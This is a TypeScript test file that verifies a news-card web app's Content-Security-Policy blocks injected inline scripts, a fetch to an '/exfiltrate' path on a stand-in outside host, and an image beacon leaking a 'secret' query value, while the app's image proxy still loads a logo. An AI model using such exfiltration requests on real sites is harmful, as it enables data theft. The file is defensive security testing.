import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser } from 'playwright-core';
import type { RunningServer } from '@/server/main';
import { launchBrowser, openPage } from '../support/browser';
import { expectBrowserErrors } from '../support/browser-errors';
import { PIXEL_PNG } from '../support/images';
import { startLoopbackServer, type LoopbackServer } from '../support/loopback-http';
import { startTestServer } from '../support/server';

let server: RunningServer;
let browser: Browser;
let elsewhere: LoopbackServer;
let logoHost: LoopbackServer;

beforeAll(async () => {
  elsewhere = await startLoopbackServer(() => ({ headers: { 'content-type': 'image/png' }, body: PIXEL_PNG }));
  logoHost = await startLoopbackServer(() => ({ headers: { 'content-type': 'image/png' }, body: PIXEL_PNG }));
  server = await startTestServer({ spa: true, env: { IMAGE_PROXY_HOSTS: logoHost.url } });
  browser = await launchBrowser();
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
  await elsewhere?.close();
  await logoHost?.close();
});

describe('Content-Security-Policy of the page', () => {
  it('is sent with the page, which still works under it', async () => {
    const response = await fetch(server.url);
    expect(response.headers.get('content-security-policy')).toContain("script-src 'self'");
    const { page, errors } = await openPage(browser, server.url);
    await page.locator('.news-card').first().waitFor();
    expect(errors).toEqual([]);
  });

  it('stops injected inline code and requests to hosts that are not ours', async () => {
    const { page, errors } = await openPage(browser, server.url);
    await page.locator('.news-card').first().waitFor();
    expectBrowserErrors(page, [
      /^csp violation: script-src-elem blocked inline/,
      /^console error: Executing inline script violates the following Content Security Policy directive 'script-src 'self''/,
      new RegExp(`^csp violation: connect-src blocked ${elsewhere.url}/exfiltrate`),
      new RegExp(`^console error: Connecting to '${elsewhere.url}/exfiltrate' violates the following Content Security Policy directive: "connect-src `),
      new RegExp(`^console error: Fetch API cannot load ${elsewhere.url}/exfiltrate\\. Refused to connect`),
    ]);
    const inlineRan = await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.__inlineRan = true';
      document.body.append(script);
      return (window as unknown as { __inlineRan?: boolean }).__inlineRan === true;
    });
    expect(inlineRan).toBe(false);
    const outcome = await page.evaluate((url) => fetch(url).then(() => 'reached', () => 'blocked'), `${elsewhere.url}/exfiltrate`);
    expect(outcome).toBe('blocked');
    expect(elsewhere.requests).toHaveLength(0);
    await expect.poll(() => errors.filter((e) => e.startsWith('csp violation:')).length).toBe(2);
  });

  it('blocks an image to another host and reports it, while a logo through our image proxy loads', async () => {
    const { page, errors } = await openPage(browser, server.url);
    await page.locator('.news-card').first().waitFor();
    const leak = `${elsewhere.url}/pixel.png?secret=0xabc`;
    expectBrowserErrors(page, [
      new RegExp(`^csp violation: img-src blocked ${escape(leak)}`),
      new RegExp(`^console error: Loading the image '${escape(leak)}' violates the following Content Security Policy directive: "img-src 'self' data:"`),
    ]);
    const load = (src: string) => page.evaluate((url) => new Promise<string>((resolve) => {
      const img = document.createElement('img');
      img.onload = () => resolve(img.naturalWidth > 0 ? 'loaded' : 'empty');
      img.onerror = () => resolve('blocked');
      img.src = url;
      document.body.append(img);
    }), src);
    expect(await load(leak)).toBe('blocked');
    expect(elsewhere.requests).toHaveLength(0);
    await expect.poll(() => errors.some((e) => e.startsWith('csp violation: img-src'))).toBe(true);
    expect(await load(`/api/image?url=${encodeURIComponent(`${logoHost.url}/logos/usdc.png`)}`)).toBe('loaded');
    expect(logoHost.requests.map((r) => r.path)).toEqual(['/logos/usdc.png']);
  });
});

function escape(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
